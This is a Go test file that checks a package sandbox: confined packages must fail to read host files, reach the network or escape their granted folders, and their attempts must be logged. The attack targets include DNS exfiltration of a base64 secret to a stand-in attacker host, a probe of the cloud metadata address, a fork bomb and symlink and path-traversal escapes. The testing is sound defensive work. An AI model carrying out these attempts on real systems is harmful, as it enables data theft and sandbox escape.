package packages

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"gatehouse/internal/files/clientroots"
	"gatehouse/internal/packages/packagestest"
	"gatehouse/tool"
)

// attacked is what an attack is tried on.
type attacked struct {
	what, kind, target string
	needsRoot          bool // for a package that is trusted to manage it
	named              string
	alone              bool // no trusted package manages it here either
}

// targets makes what the attacks reach from outside a sandbox.
func targets(t *testing.T) []attacked {
	dir, err := os.MkdirTemp("", "m") // the path of a socket has to be short
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	key := filepath.Join(dir, "key")
	if err := os.WriteFile(key, []byte("the key"), 0o600); err != nil {
		t.Fatal(err)
	}
	host := ownAddress(t)
	listen := func(network, address string) string {
		var l net.ListenConfig
		on, err := l.Listen(t.Context(), network, address)
		if err != nil {
			t.Skipf("listen %s %s: %v", network, address, err)
		}
		go func() {
			for {
				c, err := on.Accept()
				if err != nil {
					return
				}
				c.Read(make([]byte, 1)) // so that the other end can write before it is closed
				c.Write([]byte("reached"))
				c.Close()
			}
		}()
		t.Cleanup(func() { on.Close() })
		return on.Addr().String()
	}
	udp, err := net.ListenPacket("udp", net.JoinHostPort(host, "0"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { udp.Close() })
	go func() {
		b := make([]byte, 512)
		for {
			n, from, err := udp.ReadFrom(b)
			if err != nil {
				return
			}
			udp.WriteTo(b[:n], from)
		}
	}()
	web := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		fmt.Fprint(w, "reached")
	}))
	if web.Listener, err = net.Listen("tcp4", net.JoinHostPort(host, "0")); err != nil {
		t.Fatal(err)
	}
	web.Start()
	t.Cleanup(web.Close)
	tcp := listen("tcp4", net.JoinHostPort(host, "0"))
	return []attacked{
		{what: "reads a file of the host", kind: "read", target: key},
		{what: "lists a folder of the host", kind: "list", target: dir},
		{what: "writes a file of the host", kind: "write", target: filepath.Join(dir, "new")},
		{what: "lists the home", kind: "list", target: dir},
		{what: "direct IP", kind: "tcp4", target: tcp, named: "refused TCP " + tcp},
		{what: "UDP", kind: "udp", target: udp.LocalAddr().String(), named: "refused UDP " + udp.LocalAddr().String()},
		{what: "DNS over UDP", kind: "dns", target: "192.0.2.53:53 c2VjcmV0.attacker.example", alone: true,
			named: "refused DNS c2VjcmV0.attacker.example"},
		{what: "raw socket", kind: "raw", needsRoot: true},
		{what: "IPv6", kind: "tcp6", target: listen("tcp6", "[::1]:0")},
		{what: "IPv6 elsewhere", kind: "tcp6", target: "[2001:db8::7]:443", alone: true,
			named: "refused TCP [2001:db8::7]:443"},
		{what: "HTTP that ignores a proxy", kind: "http", target: web.URL,
			named: "refused TCP " + web.Listener.Addr().String()},
		{what: "HTTP at port 80", kind: "http", target: "http://203.0.113.9/", alone: true,
			named: "refused TCP 203.0.113.9:80"},
		{what: "Unix socket", kind: "unix", target: listen("unix", filepath.Join(dir, "s"))},
		{what: "abstract socket", kind: "unix", target: listen("unix", "@gatehouse-test-"+filepath.Base(dir))},
		{what: "metadata address", kind: "http", target: "http://169.254.169.254/latest/meta-data/", alone: true,
			named: "metadata service"},
	}
}

// ownAddress returns an address of this machine that is not the loopback's.
func ownAddress(t *testing.T) string {
	all, err := net.InterfaceAddrs()
	if err != nil {
		t.Fatal(err)
	}
	for _, a := range all {
		if n, ok := a.(*net.IPNet); ok && n.IP.To4() != nil && !n.IP.IsLoopback() {
			return n.IP.String()
		}
	}
	t.Skip("this machine has no address that other network namespaces could reach")
	return ""
}

// attacker is a server that also lists its tools that attack.
func attacker(t *testing.T, id, how string) Record {
	r := server(t, id, how)
	r.Env[packagestest.ListAttacks] = "1"
	return r
}

// A package in a sandbox reaches nothing of the host and no network, in whichever way it tries, and
// its log says what it tried. A trusted one reaches each, so that the attempts are real.
//
//redteam:attack A package runs in a sandbox: it reads the host's files and calls out in eight ways
func TestAConfinedPackageReachesNothing(t *testing.T) {
	h := confined(t, Options{})
	h.install(attacker(t, "evil", "good"))
	free := attacker(t, "free", "good")
	free.Confinement = Trusted
	h.install(free)
	all := targets(t)
	for _, a := range all {
		args := fmt.Sprintf(`{"kind":%q,"target":%q}`, a.kind, a.target)
		if got, err := h.call("evil", "attack", args); err != nil || !strings.HasPrefix(got, "failed: ") {
			t.Errorf("%s: %s, %v", a.what, got, err)
		} else {
			t.Logf("%s: %s", a.what, got)
		}
		if a.alone || a.needsRoot && os.Geteuid() != 0 {
			continue
		}
		if got, err := h.call("free", "attack", args); err != nil || !strings.HasPrefix(got, "done: ") {
			t.Errorf("%s, trusted: %s, %v", a.what, got, err)
		}
	}
	h.eventually("each attempt is in the log", func() bool {
		lines, err := h.Logs("evil", -1, true, 1000)
		if err != nil {
			t.Fatal(err)
		}
		return !slices.ContainsFunc(all, func(a attacked) bool {
			return !slices.ContainsFunc(lines, func(l Line) bool { return strings.Contains(l.Message, a.named) })
		})
	})
}

// What misbehaves in its sandbox is an error of its own calls, which names the cause, and others are served meanwhile.
//
//redteam:attack A package runs in a sandbox: results of 50 MB, wrong ids, silence, floods, a fork bomb, endless questions and 10,000 tools
func TestAConfinedPackageHarmsNoOther(t *testing.T) {
	h := confined(t, Options{Settings: Settings{Begin: time.Minute}})
	for id, how := range map[string]string{
		"neighbour": "good", "big": "good", "wrong": "wrongids", "flooding": "flood", "forking": "good",
		"nagging": "good",
		"mute":    "deaf",
	} {
		r := attacker(t, id, how)
		if id == "forking" {
			r.Grants.Processes = 64
		}
		h.install(r)
	}
	const late = "no answer in time"
	tried := map[string]bool{} // by the first attempts, of which each has to fail as it should
	attack := func() (end func()) {
		ctx, cancel := context.WithCancel(t.Context())
		var work sync.WaitGroup
		attempt := func(id, tool, args, want string) {
			first := !tried[id]
			tried[id] = true
			work.Go(func() { h.attemptUntil(ctx, first, id, tool, args, want, want == late) })
		}
		attempt("big", "huge", `{"Bytes":52428800}`, "at most 16777216 are passed on")
		attempt("wrong", "echo", `{}`, late)
		attempt("flooding", "echo", `{}`, "echo")
		attempt("forking", "attack", `{"kind":"fork"}`, "resource temporarily unavailable")
		attempt("nagging", "nag", `{}`, late)
		attempt("mute", "sleep", `{}`, late)
		return func() { cancel(); work.Wait() }
	}
	rounds, calls := 1, 200
	if os.Getenv("GATEHOUSE_TEST_ALL") != "" {
		rounds, calls = 9, 2000
	}
	var alone, beside []time.Duration
	for n := range rounds {
		for _, id := range []string{"big", "wrong", "flooding", "forking", "nagging", "mute"} {
			p, err := h.findPackage(id)
			if err == nil {
				err = p.stopServers()
			}
			if err != nil {
				t.Fatal(err)
			}
		}
		h.latencies(t, calls/10)
		alone = append(alone, h.latencies(t, calls))
		end := attack()
		time.Sleep(time.Second) // their servers start
		beside = append(beside, h.latencies(t, calls))
		if n == 0 {
			time.Sleep(6 * time.Second) // so that those that do not answer are out of time
		}
		end()
	}
	t.Logf("p99 of the neighbour, by window: %v alone, %v beside the others", alone, beside)
	before, during := middle(alone), middle(beside)
	t.Logf("p99 of the neighbour: %v alone, %v beside the others, %.2f times", before, during,
		float64(during)/float64(before))
	if os.Getenv("GATEHOUSE_TEST_ALL") != "" && during > 2*before {
		t.Errorf("p99 of the neighbour is %v beside the others, and %v alone", during, before)
	}
	i := h.install(server(t, "many", "manytools"))
	if n := len(i.Names); n > mostTools {
		t.Errorf("%d tools are offered", n)
	}
	lines, err := h.Logs("many", -1, true, 1000)
	if err != nil || !slices.ContainsFunc(lines, func(l Line) bool {
		return strings.Contains(l.Message, "9500 tools are left out")
	}) {
		t.Errorf("its log does not say what is left out: %v, %v", lines, err)
	}
}

func middle(all []time.Duration) time.Duration {
	slices.Sort(all)
	return all[len(all)/2]
}

// attemptUntil makes calls of a package until ctx ends. If first is set, the first one has to end with the text want; if
// late is, it is given up after seconds.
func (h *home) attemptUntil(ctx context.Context, first bool, id, tool, args, want string, late bool) {
	for ; ctx.Err() == nil; first = false {
		patience := time.Minute
		if late {
			patience = 5 * time.Second
		}
		one, end := context.WithTimeoutCause(ctx, patience, errors.New(want))
		raw, err := h.Call(one, id, tool, json.RawMessage(args), nil, nil)
		end()
		got := string(raw)
		if err != nil {
			got = err.Error()
		}
		if first && !strings.Contains(got, want) && ctx.Err() == nil {
			h.t.Errorf("%s: %s", id, shorten(got, 500))
		}
		if sleep(ctx, 200*time.Millisecond) != nil {
			return
		}
	}
}

// latencies returns the 99th percentile of calls of the package neighbour.
func (h *home) latencies(t *testing.T, calls int) time.Duration {
	var all []time.Duration
	for range calls {
		begun := time.Now()
		if _, err := h.call("neighbour", "echo", `{}`); err != nil {
			t.Fatal(err)
		}
		all = append(all, time.Since(begun))
	}
	slices.Sort(all)
	return all[len(all)*99/100]
}

// A package that writes more than it may is ended, and says so; what it has is kept.
func TestAPackageThatFillsItsFolderIsEnded(t *testing.T) {
	h := confined(t, Options{})
	r := server(t, "full", "good")
	r.Grants.Disk = 1
	i := h.install(r)
	if err := os.WriteFile(filepath.Join(i.Data, "much"), make([]byte, 2<<20), 0o600); err != nil {
		t.Fatal(err)
	}
	if _, err := h.Restart(t.Context(), "full"); err == nil {
		_, err = h.call("full", "echo", `{}`)
		if err == nil || !strings.Contains(err.Error(), "at most 1 MiB are allowed") {
			t.Errorf("got %v", err)
		}
	} else if !strings.Contains(err.Error(), "at most 1 MiB are allowed") {
		t.Errorf("got %v", err)
	}
}

// Where no sandbox can be made, only a package that is trusted runs.
func TestWithoutSandboxesOnlyTrustedPackagesRun(t *testing.T) {
	h := openHome(t, Options{Settings: Settings{Confinement: Sandboxed}})
	_, err := h.Install(t.Context(), Plan{Record: server(t, "one", "good")}, nil)
	no, ok := errors.AsType[*tool.Refusal](err)
	if !ok || !strings.Contains(no.Message, "cannot be confined on this machine") ||
		!strings.Contains(no.Next, "--trust") {
		t.Errorf("got %v", err)
	}
	r := server(t, "two", "good")
	r.Confinement = Trusted
	if i := h.install(r); i.Public.Confinement != Trusted {
		t.Errorf("it is shown as %s", i.Public.Confinement)
	}
}

// Grants that change stop the instance, and the next one has what is granted then.
func TestChangedGrantsRestartTheInstance(t *testing.T) {
	h := confined(t, Options{})
	h.install(attacker(t, "one", "good"))
	dir, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	file := filepath.Join(dir, "new")
	write := func() string {
		got, err := h.call("one", "attack", fmt.Sprintf(`{"kind":"write","target":%q}`, file))
		if err != nil {
			t.Fatal(err)
		}
		return got
	}
	if got := write(); !strings.HasPrefix(got, "failed: ") {
		t.Errorf("before: %s", got)
	}
	if _, err := h.Grant(t.Context(), "one", Regrant{Add: Grants{Folders: []string{dir}}}); err != nil {
		t.Fatal(err)
	}
	if got := write(); !strings.HasPrefix(got, "done: ") {
		t.Errorf("with the grant: %s", got)
	}
	if _, err := os.Stat(file); err != nil {
		t.Error(err)
	}
	if _, err := h.Grant(t.Context(), "one", Regrant{Add: Grants{Folders: []string{dir + ":ro"}}}); err != nil {
		t.Fatal(err)
	}
	if got := write(); !strings.HasPrefix(got, "failed: ") {
		t.Errorf("read-only: %s", got)
	}
	if _, err := h.Grant(t.Context(), "one", Regrant{Remove: Grants{Folders: []string{dir}}}); err != nil {
		t.Fatal(err)
	}
	if got, err := h.call("one", "attack", fmt.Sprintf(`{"kind":"list","target":%q}`, dir)); err != nil ||
		!strings.HasPrefix(got, "failed: ") {
		t.Errorf("revoked: %s, %v", got, err)
	}
}

// A grant of what clients announce gives each client its own folders, only those in the granted one, and changed ones
// with a new instance.
//
//redteam:attack A package runs in a sandbox: a client announces folders that were not granted, also by a link
func TestRootsOfClientsAreGrants(t *testing.T) {
	h := confined(t, Options{})
	top, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	granted, outside := filepath.Join(top, "granted"), filepath.Join(top, "outside")
	a, b, link := filepath.Join(granted, "a"), filepath.Join(granted, "b"), filepath.Join(granted, "link")
	for _, dir := range []string{a, b, outside} {
		err := os.MkdirAll(dir, 0o700)
		if err == nil {
			err = os.WriteFile(filepath.Join(dir, "file"), nil, 0o600)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Symlink(outside, link); err != nil {
		t.Fatal(err)
	}
	r := attacker(t, "one", "good")
	r.Grants.Folders = []string{granted + ":roots"}
	h.install(r)
	reaches := func(who, root, dir string) bool {
		t.Helper()
		from := &Peer{Caller: &tool.Caller{
			Principal: who, Owner: who + "/", Session: "session of " + who, Can: tool.CanListRoots,
		}}
		if root != "" {
			from.Answers = map[string]tool.Answer{
				clientroots.AnnouncedKey: tool.Answer(fmt.Sprintf(`{"roots":[{"uri":"file://%s"}]}`, root)),
			}
		}
		raw, err := h.Call(t.Context(), "one", "attack", fmt.Appendf(nil, `{"kind":"list","target":%q}`, dir), nil, from)
		if err != nil {
			t.Fatal(err)
		}
		return strings.Contains(string(raw), "done: ")
	}
	for _, c := range []struct {
		who, root, dir string
		want           bool
	}{
		{"ann", a, a, true},
		{"ann", "", a, true}, // the session's are known
		{"ann", "", b, false},
		{"bob", b, b, true},
		{"bob", "", a, false},
		{"ann", b, b, true}, // they have changed
		{"ann", "", a, false},
		{"bob", outside, outside, false},
		{"bob", link, outside, false},
		{"bob", a + "/../../outside", outside, false},
		{"bob", "/", a, true}, // all that is granted
		{"bob", "/", outside, false},
	} {
		if got := reaches(c.who, c.root, c.dir); got != c.want {
			t.Errorf("%s with %q reaches %s: %v", c.who, c.root, c.dir, got)
		}
	}
	from := &Peer{Caller: &tool.Caller{Principal: "carol", Owner: "carol/", Session: "c", Can: tool.CanListRoots}}
	_, err = h.Call(t.Context(), "one", "attack", fmt.Appendf(nil, `{"kind":"list","target":%q}`, a), nil, from)
	if _, asked := errors.AsType[*InputRequired](err); !asked {
		t.Errorf("a client whose folders are unknown: %v", err)
	}
	if got, err := h.call("one", "attack", fmt.Sprintf(`{"kind":"list","target":%q}`, a)); err != nil ||
		strings.Contains(got, "done: ") {
		t.Errorf("a client that announces nothing: %s, %v", got, err)
	}
}
